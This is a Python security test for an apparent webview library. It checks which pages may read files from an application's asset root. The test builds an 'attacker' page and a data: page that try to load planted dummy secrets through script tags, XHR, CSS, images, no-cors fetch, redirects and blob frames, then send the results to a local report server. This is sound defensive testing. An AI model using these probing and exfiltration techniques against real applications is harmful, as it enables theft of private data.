"""Who may read an asset root. Root A is used by the view "tool" (its page, index.html, loaded by
the view itself) and by "partner", whose page comes from server S3; root B by "other". Pages of
every kind ask A for its files with every means a page has (XHR, <script src>, <link>, CSS
@import, <img>, fetch no-cors, a redirect, a top-level navigation) and report what they got:

- "tool": the tool page itself (its own files: served) and its frames: a frame of the untrusted
  server S1, a data: frame, a sandboxed srcdoc frame (both opaque), a blob: frame the page made
  (its own origin: served); plus root B (another view's root), a 100 000-character path, an
  unknown host;
- "attacker": S1's page, reached in the tool view by a navigation (no bridge: it reports to S1),
  with a blob: frame of its own; it then goes to S2, whose page navigates the view into A;
- "partner": S3's page, trusted by a view that uses A: served;
- "trusting": S1's page in a view that trusts S1 but uses no root: refused (the root is bound to
  the views that use it, not to every view);
- "file": a file page (trusted, by its directory) in a view that uses A: refused (a file page's
  origin, "file://", does not say which directory asked);
- "dataview": a data: page the view A uses loaded itself: refused.

The top-level navigation into A ends either in the refusal's log line or in A's landing page
reporting through the bridge it would then have. Every refusal is logged once per origin."""
import json
import os
import sys
import threading
import urllib.parse

from harness import capture_log, report
from report_server import ReportServer

import auroraview

site = sys.argv[1]
SECRET_JS = "JS-SECRET-OF-ROOT-A"


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


root_a, root_b = os.path.join(site, "a"), os.path.join(site, "b")
write(os.path.join(root_a, "secret.js"), f"window.__secret = {json.dumps(SECRET_JS)};")
write(os.path.join(root_a, "secret2.js"), "window.__secret2 = 'REDIRECTED-SECRET';")
write(os.path.join(root_a, "data.json"), '{"secret": "DATA-OF-ROOT-A"}')
write(os.path.join(root_a, "style.css"), "body { color: rgb(1, 2, 3); }")
write(os.path.join(root_a, "logo.svg"),
      '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/></svg>')
write(os.path.join(root_a, "frame.html"), "<!doctype html>SAME-ORIGIN-FRAME")
write(os.path.join(root_a, "landing.html"),
      "<!doctype html><script>auroraview.send_event('landing', location.href);</script>")
write(os.path.join(root_b, "data.json"), '{"secret": "DATA-OF-ROOT-B"}')

s1 = ReportServer(os.path.join(site, "s1"))  # the untrusted pages and all no-bridge reports
s2 = ReportServer(os.path.join(site, "s2"))  # a fresh origin whose page navigates into A
s3 = ReportServer(os.path.join(site, "s3"))  # the partner's pages
log = capture_log()

tool = auroraview.WebView(asset_root=root_a)
A = tool.asset_url
other = auroraview.WebView(asset_root=root_b)
B = other.asset_url

# Probes, each settled by an event of the page (never a timer). {error: true} is a refusal.
PROBE_LIB = r"""
const AVP = {
  xhr(u) { return new Promise((r) => { const x = new XMLHttpRequest();
    try { x.open("GET", u); } catch (e) { r({invalid: e.name}); return; }
    x.onload = () => r({status: x.status, body: x.responseText.slice(0, 80)});
    x.onerror = () => r({error: true}); x.send(); }); },
  script(u, name) { return new Promise((r) => { const s = document.createElement("script"); s.src = u;
    s.onload = () => r({loaded: true, value: window[name] === undefined ? null : window[name]});
    s.onerror = () => r({error: true}); document.head.appendChild(s); }); },
  img(u) { return new Promise((r) => { const i = new Image();
    i.onload = () => r({loaded: true, width: i.naturalWidth}); i.onerror = () => r({error: true}); i.src = u; }); },
  link(u) { return new Promise((r) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = u;
    l.onload = () => r({loaded: true, color: getComputedStyle(document.body).color});
    l.onerror = () => r({error: true, color: getComputedStyle(document.body).color});
    document.head.appendChild(l); }); },
  cssImport(u) { return new Promise((r) => { const s = document.createElement("style");
    s.textContent = '@import url("' + u + '");';
    s.onload = () => r({loaded: true, color: getComputedStyle(document.body).color});
    s.onerror = () => r({error: true, color: getComputedStyle(document.body).color});
    document.head.appendChild(s); }); },
  noCors(u) { return fetch(u, {mode: "no-cors"}).then((x) => ({resolved: x.type}), () => ({error: true})); },
};
"""

# A frame's probes, reported to its parent with postMessage.
FRAME = """<!doctype html><body><script>PROBE_LIB
(async () => {
  const A = __A__;
  const got = {script: await AVP.script(A + "secret.js", "__secret"), xhr: await AVP.xhr(A + "data.json")};
  parent.postMessage({frame: __NAME__, got}, "*");
})();
</script></body>"""


def fill(template, **values):
    """template with PROBE_LIB and each __KEY__ replaced by the JSON of its value."""
    text = template.replace("PROBE_LIB", PROBE_LIB)
    for key, value in values.items():
        text = text.replace(f"__{key}__", json.dumps(value).replace("</", "<\\/"))  # no "</script>" inside a script
    return text


def frame_html(name):
    return fill(FRAME, A=A, NAME=name)


write(os.path.join(site, "s1", "frame.html"), frame_html("http"))

TOOL_PAGE = """<!doctype html><html><head></head><body><script>PROBE_LIB
const FRAMES = {"http": __S1__ + "/frame.html"};
const frames = {};
function frame(name, set) {
  return new Promise((resolve) => {
    frames[name] = resolve;
    const f = document.createElement("iframe");
    set(f);
    document.body.appendChild(f);
  });
}
window.addEventListener("message", (e) => { if (frames[e.data.frame]) frames[e.data.frame](e.data.got); });
auroraview.on("navigate", ({ value: url }) => { location.href = url; });
window.addEventListener("load", async () => {
  const got = {
    own_xhr: await AVP.xhr("data.json"),
    own_script: await AVP.script("secret.js", "__secret"),
    own_link: await AVP.link("style.css"),
    own_img: await AVP.img("logo.svg"),
    same_frame: await new Promise((r) => { const f = document.createElement("iframe"); f.src = "frame.html";
      f.onload = () => r(f.contentDocument.body.textContent); document.body.appendChild(f); }),
    root_b: await AVP.xhr(__B__ + "data.json"),
    long_path: await AVP.xhr("x".repeat(100000) + ".json"),
    unknown_host: await AVP.xhr("auroraview://app-000000000000/data.json"),
    after: await AVP.xhr("data.json"),
  };
  got.frames = {
    http: await frame("http", (f) => { f.src = FRAMES.http; }),
    data: await frame("data", (f) => { f.src = "data:text/html;charset=utf-8," + encodeURIComponent(__FRAME_DATA__); }),
    sandboxed: await frame("sandboxed", (f) => { f.sandbox = "allow-scripts"; f.srcdoc = __FRAME_SANDBOXED__; }),
    blob: await frame("blob", (f) => { f.src = URL.createObjectURL(new Blob([__FRAME_BLOB__], {type: "text/html"})); }),
  };
  auroraview.send_event("tool", got);
});
</script></body></html>"""
write(os.path.join(root_a, "index.html"), fill(TOOL_PAGE, S1=s1.origin, B=B, FRAME_DATA=frame_html("data"),
                                              FRAME_SANDBOXED=frame_html("sandboxed"), FRAME_BLOB=frame_html("blob")))

ATTACKER = """<!doctype html><html><head></head><body><script>PROBE_LIB
const A = __A__;
(async () => {
  const got = {
    script: await AVP.script(A + "secret.js", "__secret"),
    xhr: await AVP.xhr(A + "data.json"),
    link: await AVP.link(A + "style.css"),
    css_import: await AVP.cssImport(A + "style.css"),
    img: await AVP.img(A + "logo.svg"),
    no_cors: await AVP.noCors(A + "data.json"),
    redirect_script: await AVP.script("/redirect?to=" + encodeURIComponent(A + "secret2.js"), "__secret2"),
    redirect_xhr: await AVP.xhr("/redirect?to=" + encodeURIComponent(A + "data.json")),
    blob_frame: await new Promise((resolve) => {
      window.addEventListener("message", (e) => resolve(e.data.got));
      const f = document.createElement("iframe");
      f.src = URL.createObjectURL(new Blob([__FRAME_BLOB__], {type: "text/html"}));
      document.body.appendChild(f);
    }),
  };
  got.name = "attacker";
  got.bridge = typeof window.auroraview;
  await fetch("/report?" + encodeURIComponent(JSON.stringify(got)));
  location.href = __S2_NAV__;
})();
</script></body></html>"""
write(os.path.join(site, "s1", "attack.html"), fill(ATTACKER, A=A, FRAME_BLOB=frame_html("attacker-blob"),
                                                    S2_NAV=s2.origin + "/nav.html"))
# S2: a page that sends the view into A's landing page, which would have the bridge if served.
write(os.path.join(site, "s2", "nav.html"), f"<!doctype html><script>location.href = {json.dumps(A + 'landing.html')};</script>")

# A page with the bridge that reports A's files to Python: partner (S3, in a view using A),
# trusting (S1, in a view that trusts S1 but uses no root), file (a file page in a view using A).
BRIDGED = """<!doctype html><html><head></head><body><script>PROBE_LIB
const A = __A__;
(async () => {
  auroraview.send_event("report", {name: __NAME__, href: location.href,
    script: await AVP.script(A + "secret.js", "__secret"), xhr: await AVP.xhr(A + "data.json"),
    img: await AVP.img(A + "logo.svg")});
})();
</script></body></html>"""


def bridged(name):
    return fill(BRIDGED, A=A, NAME=name)


write(os.path.join(site, "s3", "partner.html"), bridged("partner"))
write(os.path.join(site, "s1", "trusting.html"), bridged("trusting"))
write(os.path.join(site, "filepage", "index.html"), bridged("file"))
DATA_PAGE = """<!doctype html><html><head></head><body><script>PROBE_LIB
const A = __A__;
(async () => {
  const got = {name: "dataview", origin: String(self.origin),
    script: await AVP.script(A + "secret.js", "__secret"), xhr: await AVP.xhr(A + "data.json"),
    img: await AVP.img(A + "logo.svg")};
  fetch(__S1_REPORT__ + encodeURIComponent(JSON.stringify(got)), {mode: "no-cors"});
})();
</script></body></html>"""

result = {"A": A, "B": B, "s1": s1.origin, "s2": s2.origin, "s3": s3.origin, "reports": {},
          "where": [], "landing": None}
views = {"tool": tool, "other": other}
views["partner"] = auroraview.WebView(asset_root=root_a, url=s3.origin + "/partner.html")
views["trusting"] = auroraview.WebView(url=s1.origin + "/trusting.html")
views["file"] = auroraview.WebView(asset_root=root_a)
views["file"].load_file(os.path.join(site, "filepage", "index.html"))
views["dataview"] = auroraview.WebView(asset_root=root_a)
views["dataview"].load_url("data:text/html;charset=utf-8," + urllib.parse.quote(fill(DATA_PAGE, A=A, S1_REPORT=s1.origin + "/report?")))
lock = threading.Lock()
state = {"landing_refused": False, "server": False, "done": False}


def maybe_finish():
    with lock:
        ready = (state["server"] and (state["landing_refused"] or result["landing"])
                 and {"tool", "partner", "trusting", "file"} <= set(result["reports"]) and not state["done"])
        if ready:
            state["done"] = True
    if ready:
        for view in views.values():
            view.close()


@tool.on("tool")
def got_tool(got):
    result["reports"]["tool"] = got
    tool.emit("navigate", s1.origin + "/attack.html")
    maybe_finish()


@tool.on("landing")
def got_landing(href):
    result["landing"] = href
    maybe_finish()


for name in ("partner", "trusting", "file"):
    views[name].on("report", lambda got, name=name: (result["reports"].__setitem__(name, got), maybe_finish()))


def watch_log():
    # The top-level navigation into A is refused before it reaches a page: its log line says so.
    import logging

    class Landing(logging.Handler):
        def emit(self, record):
            if "landing.html" in record.getMessage() and s2.origin in record.getMessage():
                state["landing_refused"] = True
                auroraview.run_on_main_thread(maybe_finish)

    logging.getLogger("auroraview").addHandler(Landing())


watch_log()


def watch_server():
    result["server_reports"] = s1.wait_named(["attacker", "dataview"])
    state["server"] = True
    auroraview.run_on_main_thread(maybe_finish)


threading.Thread(target=watch_server, daemon=True).start()
tool.load_url("index.html")
tool.show()
for view in views.values():
    view.close()
result["log"] = [line for line in log if "auroraview://" in line[1]]
result["stats"] = auroraview.stats()
report(result)
